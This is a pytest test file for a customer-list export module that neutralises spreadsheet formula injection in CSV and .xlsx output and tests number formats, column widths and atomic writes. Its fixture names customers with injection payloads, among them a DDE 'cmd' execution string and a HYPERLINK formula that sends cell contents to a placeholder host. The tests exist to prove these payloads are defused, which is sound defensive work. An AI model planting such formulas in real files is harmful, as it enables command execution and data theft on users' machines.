"""Files for people never run customer data: formulas are written as text (OWASP CSV injection),
control characters never break an .xlsx, and the store keeps what the customer gave."""

from __future__ import annotations

import csv
import datetime as dt
import decimal
from pathlib import Path

import openpyxl
import pytest

from kizuna._errors import KizunaError
from kizuna._sheets import (
    NUMBER_FORMATS,
    Column,
    display_width,
    heading,
    neutralise,
    open_csv,
    open_sheet,
    sheet_title,
    write_table,
    xlsx_text,
)
from kizuna.workspace import Workspace

FORMULAS = {  # customer id -> name
    "C01": '=HYPERLINK("http://x"&A1,"click")',
    "C02": "=cmd|' /C calc'!A0",
    "C03": "+1",
    "C04": "-1",
    "C05": "@SUM(1)",
    "C06": "\t=1+1",
    "C07": "\r=1+1",
    "C09": "\x01=1+1",
}
SAFE = {"C08": "ab\x01c", "C10": "山田 太郎", "C11": "鈴木 花子", "C12": "a=b", "C13": "ＴＡＲＯ"}
# ASCII names that the importer stores unchanged whatever its text normalisation
KEPT = ("C01", "C02", "C03", "C04", "C05")


def read_csv(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return list(csv.reader(handle))


def read_xlsx(path: Path) -> list[list[openpyxl.cell.Cell]]:
    """The header row and the rows below it (a title row above the header is left out)."""
    book = openpyxl.load_workbook(path)  # not read-only: cells keep their data_type
    sheet = book.active
    header = int(sheet.freeze_panes[1:]) - 1 if sheet.freeze_panes else 1
    return [list(row) for row in sheet.iter_rows(min_row=header)]


@pytest.fixture(scope="module")
def shop(tmp_path_factory: pytest.TempPathFactory):
    """A workspace whose customers are named like attacks, analysed, each with one order."""
    root = tmp_path_factory.mktemp("sheets")
    names = {**FORMULAS, **SAFE}
    with (root / "customers.csv").open("w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["customer_id", "name", "email", "phone", "address"])
        for cid, name in names.items():
            writer.writerow([cid, name, f"{cid.lower()}@example.jp", "+81 3-1234-5678", "-2+3 東京都"])
    with (root / "orders.csv").open("w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["order_id", "customer_id", "ordered_at", "amount"])
        writer.writerows([f"O{cid}", cid, "2025-05-01", 1_000] for cid in names)
    ws = Workspace.init(root / "ws")
    assert ws.import_file("customers", root / "customers.csv").rejected == 0
    assert ws.import_file("orders", root / "orders.csv").rejected == 0
    ws.analyze(dt.date(2025, 6, 30))
    yield ws
    ws.close()


def stored(ws: Workspace) -> dict[str, dict]:
    rows = ws.store.table("customers").to_pyarrow().to_pylist()
    return {r["customer_id"]: r for r in rows}


@pytest.mark.slow
def test_the_store_keeps_the_names_as_given(shop: Workspace):
    customers = stored(shop)
    assert len(customers) == len(FORMULAS) + len(SAFE)
    for cid in KEPT:
        assert customers[cid]["name"] == FORMULAS[cid]


def test_a_csv_export_writes_every_formula_as_text(shop: Workspace, tmp_path: Path):
    assert shop.export_segment("rank_other", tmp_path / "list.csv", lang="en") == 13
    header, *rows = read_csv(tmp_path / "list.csv")
    by_id = {r[0]: dict(zip(header, r, strict=True)) for r in rows}
    customers = stored(shop)
    for cid, row in by_id.items():
        name = customers[cid]["name"]
        dangerous = name.lstrip("\x01")[:1] in ("=", "+", "-", "@", "\t", "\r")
        assert row["name"] == ("'" + name if dangerous else name), cid
        assert row["phone"] == "'+81 3-1234-5678" and row["address"] == "'-2+3 東京都"
        assert row["LTV (yen)"] == "1000" and row["orders"] == "1"  # numbers are not text
    for cid in FORMULAS:
        assert by_id[cid]["name"].startswith("'"), cid
    assert by_id["C01"]["name"] == "'" + FORMULAS["C01"]
    assert by_id["C12"]["name"] == "a=b"


def test_an_xlsx_export_has_no_formula_cell_and_reads_back_as_given(shop: Workspace, tmp_path: Path):
    assert shop.export_segment("rank_other", tmp_path / "list.xlsx", fmt="xlsx", lang="en") == 13
    header, *rows = read_xlsx(tmp_path / "list.xlsx")
    assert [c.data_type for row in [header, *rows] for c in row if c.data_type == "f"] == []
    names = [c.value for c in header]
    customers = stored(shop)
    seen = set()
    for row in rows:
        cells = dict(zip(names, row, strict=True))
        cid = cells["customer id"].value
        seen.add(cid)
        expected = xlsx_text(customers[cid]["name"])  # .xlsx cannot hold control characters
        assert (cells["name"].value, cells["name"].data_type) == (expected, "s"), cid
        assert cells["phone"].value == "+81 3-1234-5678" and cells["address"].value == "-2+3 東京都"
        assert (cells["LTV (yen)"].value, cells["LTV (yen)"].data_type) == (1000, "n")
        assert cells["last order"].value == dt.datetime(2025, 5, 1)
    assert seen == set(customers)
    by_id = {r[0].value: r[1].value for r in rows}
    assert (by_id["C01"], by_id["C08"]) == (FORMULAS["C01"], "abc")


@pytest.mark.parametrize("text", [
    "=1+1", "+1", "-1", "@SUM(1)", "\t=1+1", "\r=1+1", "=", '=HYPERLINK("http://x"&A1,"click")',
    "\x01=1+1", "\n-1",
])
def test_neutralise_quotes_text_a_spreadsheet_would_run(text: str):
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("value", [
    "", "a=b", "山田 太郎", "'=1+1", " =1+1", "1+1", "ＴＡＲＯ", 1, -1, 2.5, -2.5, decimal.Decimal("-3"), True,
    None, dt.date(2025, 1, 1), dt.datetime(2025, 1, 1, 9, 30),
])
def test_neutralise_leaves_safe_values_and_non_text_alone(value: object):
    result = neutralise(value)
    assert result == value and type(result) is type(value)


def test_xlsx_text_and_sheet_title_make_what_excel_accepts():
    assert xlsx_text("a\x00b\x01c\x1fd\te\nf\rg\r\nh") == "abcd\te\nf\ng\nh"
    assert len(xlsx_text("x" * 40_000)) == 32_767
    assert sheet_title("離脱候補者") == "離脱候補者"
    assert sheet_title("NPS/LTV [a]: *?\\") == "NPS_LTV _a__ ___"
    assert sheet_title("x" * 40) == "x" * 31 and sheet_title("\x01") == "Sheet1"


def test_write_table_keeps_types_and_writes_formulas_as_text(tmp_path: Path):
    rows = [["=1+1", -1, 2.5, dt.date(2025, 1, 2), None, True, decimal.Decimal("7")],
            ["-x", 0, 0.0, dt.datetime(2025, 1, 2, 3, 4), "", False, None]]
    headers = ["text", "int", "float", "date", "none", "bool", "decimal"]
    assert write_table(tmp_path / "t.csv", headers, rows, fmt="csv") == 2
    assert read_csv(tmp_path / "t.csv")[1:] == [
        ["'=1+1", "-1", "2.5", "2025-01-02", "", "True", "7"],
        ["'-x", "0", "0.0", "2025-01-02 03:04:00", "", "False", ""],
    ]
    assert write_table(tmp_path / "t.xlsx", headers, rows, fmt="xlsx", sheet="a/b") == 2
    book = openpyxl.load_workbook(tmp_path / "t.xlsx")
    assert book.sheetnames == ["a_b"]
    (_, first, second) = [[(c.value, c.data_type) for c in row] for row in book.active.iter_rows()]
    assert first[:3] == [("=1+1", "s"), (-1, "n"), (2.5, "n")]
    assert first[3] == (dt.datetime(2025, 1, 2), "d") and first[5] == (True, "b") and first[6] == (7, "n")
    assert second[0] == ("-x", "s")


def test_a_header_that_looks_like_a_formula_is_text_too(tmp_path: Path):
    write_table(tmp_path / "h.csv", ["=id"], [[1]])
    assert read_csv(tmp_path / "h.csv") == [["'=id"], ["1"]]
    write_table(tmp_path / "h.xlsx", ["=id"], [[1]], fmt="xlsx")
    (header, _) = read_xlsx(tmp_path / "h.xlsx")
    assert (header[0].value, header[0].data_type) == ("=id", "s")


def test_the_streaming_csv_writer_writes_row_by_row(tmp_path: Path):
    path = tmp_path / ".rejects.csv.part"
    with open_csv(path, ["file", "row", "value"], shown_as=tmp_path / "rejects.csv") as sheet:
        for n in range(3):
            sheet.writerow(["orders.csv", n + 2, f"=1+{n}"])
        assert sheet.rows == 3
    assert read_csv(path) == [["file", "row", "value"], *[["orders.csv", str(n + 2), f"'=1+{n}"] for n in range(3)]]
    assert path.read_bytes().startswith(b"\xef\xbb\xbf")  # UTF-8 with BOM for Excel
    sheet = open_sheet(tmp_path / "s.xlsx", "xlsx", headers=["v"], sheet="rejects")
    sheet.writerow(["=2+2"])
    sheet.close()
    assert read_xlsx(tmp_path / "s.xlsx")[1][0].data_type == "s"


def test_a_failed_write_leaves_the_earlier_file_and_no_partial_one(tmp_path: Path):
    path = tmp_path / "list.csv"
    write_table(path, ["a"], [[1]])

    def rows():
        yield [2]
        raise RuntimeError("the store went away")

    for fmt in ("csv", "xlsx"):
        with pytest.raises(RuntimeError):
            write_table(path, ["a"], rows(), fmt=fmt)
    assert read_csv(path) == [["a"], ["1"]]
    assert sorted(p.name for p in tmp_path.iterdir()) == ["list.csv"]


def test_an_unwritable_path_is_one_line(tmp_path: Path):
    (tmp_path / "folder").mkdir()
    for fmt in ("csv", "xlsx"):
        with pytest.raises(KizunaError, match=rf"^cannot write {tmp_path / 'folder'}: Is a directory\. "):
            write_table(tmp_path / "folder", ["a"], [[1]], fmt=fmt)
        with pytest.raises(KizunaError, match=r"^cannot write .*missing.*: No such file or directory\. "):
            write_table(tmp_path / "missing" / "x.csv", ["a"], [[1]], fmt=fmt)
    with pytest.raises(KizunaError, match="unknown file format 'ods'"):
        write_table(tmp_path / "x.ods", ["a"], [[1]], fmt="ods")
    assert sorted(p.name for p in tmp_path.iterdir()) == ["folder"]


# -- columns: each kind as a workbook and a CSV show it ---------------------------------------------
@pytest.mark.parametrize(("kind", "value", "in_xlsx", "in_csv"), [
    ("yen", 1_302_886.5, 1_302_887, 1_302_887),  # half a yen up (四捨五入), not to the even yen
    ("yen", -2.5, -3, -3),
    ("yen", decimal.Decimal("10.5"), 11, 11),
    ("yen", 400, 400, 400),
    ("percent", 0.9432966061812755, 0.943, 94.3),  # the cell holds what 0.0% shows; a CSV says 94.3 (%)
    ("percent", 1, 1.0, 100.0),
    ("percent", 0.0005, 0.001, 0.1),
    ("count", 12.0, 12, 12),
    ("integer", 7, 7, 7),
    ("number", 2.345678, 2.3, 2.3),
    ("date", dt.datetime(2026, 5, 1, 23, 59), dt.date(2026, 5, 1), "2026-05-01"),
    ("date", dt.date(2026, 5, 1), dt.date(2026, 5, 1), "2026-05-01"),
    ("datetime", dt.datetime(2026, 5, 1, 9, 30, 15), dt.datetime(2026, 5, 1, 9, 30, 15), "2026-05-01 09:30"),
    # a time with a zone keeps its wall-clock time: .xlsx has no zones
    ("datetime", dt.datetime(2026, 5, 1, 9, 30, tzinfo=dt.timezone(dt.timedelta(hours=9))),
     dt.datetime(2026, 5, 1, 9, 30), "2026-05-01 09:30"),
    ("yen", float("nan"), None, None),  # no figure: an empty cell
    ("percent", None, None, None),
    ("yen", "●●●", "●●●", "●●●"),  # text in a figure's column (a masked value) stays text
    ("text", "=1+1", "=1+1", "=1+1"),  # made safe by the writer, not by the column
])
def test_a_column_holds_each_kind_as_its_reader_reads_it(kind, value, in_xlsx, in_csv):
    column = Column("x", kind)
    assert column.xlsx(value) == in_xlsx and type(column.xlsx(value)) is type(in_xlsx)
    assert column.csv(value) == in_csv and type(column.csv(value)) is type(in_csv)


def test_an_unknown_kind_is_a_mistake_in_the_code():
    with pytest.raises(ValueError, match="unknown column kind 'money'"):
        Column("x", "money")


def test_wide_characters_count_twice_and_the_title_leaves_out_what_is_empty():
    assert display_width("山田 太郎") == 9 and display_width("ＴＡＲＯ") == 8  # full-width Latin is wide too
    assert display_width("ﾔﾏﾀﾞ") == 4 and display_width("ab\nあいう") == 6  # half-width kana narrow; longest line
    assert heading("", "架電リスト", "基準日 2026/11/01") == "架電リスト\u3000基準日 2026/11/01"
    assert heading("水の森", "Call list", "") == "水の森\u3000Call list"


def test_a_workbook_is_formatted_for_people_and_a_csv_stays_plain(tmp_path: Path):
    columns = [Column("顧客ID"), Column("氏名"), Column("LTV (円)", "yen"), Column("離脱確率 %", "percent"),
               Column("最終購入日", "date"), Column("購入回数", "count"), Column("メモ")]
    rows = [["C1", "山田 太郎", 1_302_886, 0.9432966061812755, dt.datetime(2026, 5, 1, 10), 12, "x" * 80],
            ["C2", "=HYPERLINK(\"x\")", None, 0.25, None, 1_234, ""]]
    title = heading("水の森", "顧客リスト_離脱候補者", "基準日 2026/11/01")
    assert write_table(tmp_path / "l.xlsx", columns, rows, fmt="xlsx", sheet="顧客リスト_離脱候補者", title=title) == 2
    book = openpyxl.load_workbook(tmp_path / "l.xlsx")
    sheet = book.active
    assert book.sheetnames == ["顧客リスト_離脱候補者"]
    assert (sheet["A1"].value, sheet["A1"].font.b) == ("水の森\u3000顧客リスト_離脱候補者\u3000基準日 2026/11/01", True)
    assert [c.value for c in sheet[2]] == [c.header for c in columns] and all(c.font.b for c in sheet[2])
    assert sheet.freeze_panes == "A3" and sheet.auto_filter.ref == "A2:G4" and sheet.print_title_rows == "$2:$2"
    # printed landscape on A4, every column on one page's width
    setup = sheet.page_setup
    assert (setup.orientation, setup.paperSize, setup.fitToWidth, setup.fitToHeight) == ("landscape", 9, 1, 0)
    assert sheet.sheet_properties.pageSetUpPr.fitToPage is True
    # widths: the widest of the header (+3 for the filter's arrow) and the content (+2); wide characters twice
    widths = {k: d.width for k, d in sheet.column_dimensions.items()}
    assert widths["A"] == 2 * 2 + 2 + 3  # 顧客ID
    assert widths["B"] == 15 + 2  # =HYPERLINK("x") is 15 wide, 山田 太郎 9
    assert widths["C"] == len("¥1,302,886") + 2 and widths["D"] == len("離脱確率 %") + 4 + 3
    assert widths["E"] == 5 * 2 + 3  # the header 最終購入日 is wider than 2026/05/01 (10 + 2)
    assert widths["G"] == 60 and sheet["G3"].alignment.wrap_text  # long text: wrapped in a readable width
    first = sheet[3]
    assert [c.number_format for c in first[2:6]] == [NUMBER_FORMATS[k] for k in ("yen", "percent", "date", "count")]
    assert NUMBER_FORMATS["yen"] == '"¥"#,##0' and NUMBER_FORMATS["date"] == "yyyy/mm/dd"
    assert (first[2].value, first[3].value, first[5].value) == (1_302_886, 0.943, 12)
    assert first[4].is_date and first[4].value == dt.datetime(2026, 5, 1)  # a date, not text
    assert (sheet["B4"].value, sheet["B4"].data_type) == ('=HYPERLINK("x")', "s")
    # the CSV: one header row, no title, plain numbers, the same headers
    write_table(tmp_path / "l.csv", columns, rows)
    assert read_csv(tmp_path / "l.csv") == [
        [c.header for c in columns],
        ["C1", "山田 太郎", "1302886", "94.3", "2026-05-01", "12", "x" * 80],
        ["C2", "'=HYPERLINK(\"x\")", "", "25.0", "", "1234", ""],
    ]


def test_widths_are_measured_on_the_first_thousand_rows_and_the_rest_stream(tmp_path: Path):
    rows = [[f"C{n}", "a"] for n in range(1_000)] + [["C1000", "b" * 30]]
    write_table(tmp_path / "w.xlsx", ["id", "memo"], rows, fmt="xlsx")
    sheet = openpyxl.load_workbook(tmp_path / "w.xlsx").active
    assert sheet.column_dimensions["B"].width == len("memo") + 3  # the 1,001st row came after the widths
    assert sheet.max_row == 1_002 and sheet["B1002"].value == "b" * 30
    assert sheet.freeze_panes == "A2" and sheet.auto_filter.ref == "A1:B1002"  # no title: the header is row 1


def test_a_csv_without_a_file_goes_to_standard_output_with_the_bom(tmp_path: Path, capsysbinary):
    columns = [Column("顧客ID"), Column("離脱確率 %", "percent")]
    assert write_table(None, columns, [["C1", 0.5], ["C2", "=1"]]) == 2
    printed = capsysbinary.readouterr().out
    write_table(tmp_path / "same.csv", columns, [["C1", 0.5], ["C2", "=1"]])
    assert printed == (tmp_path / "same.csv").read_bytes()  # `> list.csv` gives the file `-o list.csv` does
    assert printed.startswith(b"\xef\xbb\xbf")
    assert printed.decode("utf-8-sig") == "顧客ID,離脱確率 %\r\nC1,50.0\r\nC2,'=1\r\n"
    with pytest.raises(KizunaError, match="not written to standard output; give a file name with -o"):
        write_table(None, columns, [], fmt="xlsx")
